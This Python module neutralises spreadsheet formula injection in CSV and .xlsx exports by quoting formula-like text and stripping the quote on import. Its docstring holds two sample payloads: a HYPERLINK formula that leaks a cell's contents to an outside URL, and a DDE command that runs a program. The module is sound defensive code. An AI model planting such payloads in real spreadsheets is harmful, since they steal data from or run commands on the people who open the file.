"""Text users typed, written into spreadsheets so that no spreadsheet program runs it.

A unit or a presenter may be named `=HYPERLINK("http://…?leak="&A1,"点击查看")` or
`=cmd|' /C calc'!A0`: a secretary can type that on the registration form. Excel, WPS and
LibreOffice evaluate a cell as a formula when its text starts with `=`, `+`, `-` or `@` (and
after a tab or a carriage return), so every export writes such text inert, as OWASP's "CSV
injection" advice says:

- in .xlsx, as a string cell (openpyxl would otherwise store text starting with "=" as a formula)
  with Excel's quote prefix, so that editing the cell keeps it text;
- in CSV, with a leading apostrophe, which spreadsheet programs show as text.

Numbers stay numbers. Every importer reads the apostrophe back off (`strip_export_quote`), so an
export imports back unchanged. An apostrophe is added before text that already starts with
apostrophes followed by a trigger as well, so that the round trip holds for every text.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

# Text a CSV export prefixes with one apostrophe, and text an import takes one apostrophe off.
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def csv_value(value: Any) -> Any:
    """The value as a CSV export writes it: text that could run as a formula gets an apostrophe."""
    if isinstance(value, str) and _NEEDS_QUOTE.match(value):
        return QUOTE + value
    return value


def csv_row(row: Any) -> list[Any]:
    return [csv_value(value) for value in row]


def strip_export_quote(text: str) -> str:
    """What an import reads: the apostrophe an export put before formula-like text comes off."""
    if _QUOTED.match(text):
        return text[1:]
    return text


def make_inert(cell: Any) -> Any:
    """An openpyxl cell (ordinary or write-only) whose text can never run as a formula."""
    value = cell.value
    if isinstance(value, str) and is_formula_like(value):
        # openpyxl marks text starting with "=" as a formula ('f'); a string cell is shown as is.
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_row(sheet: Any, row: Any) -> list[Any]:
    """A row for a write-only sheet: formula-like text wrapped in an inert cell, the rest as is
    (a write-only sheet writes plain values fastest)."""
    from openpyxl.cell import WriteOnlyCell

    return [
        make_inert(WriteOnlyCell(sheet, value=value))
        if isinstance(value, str) and is_formula_like(value)
        else value
        for value in row
    ]
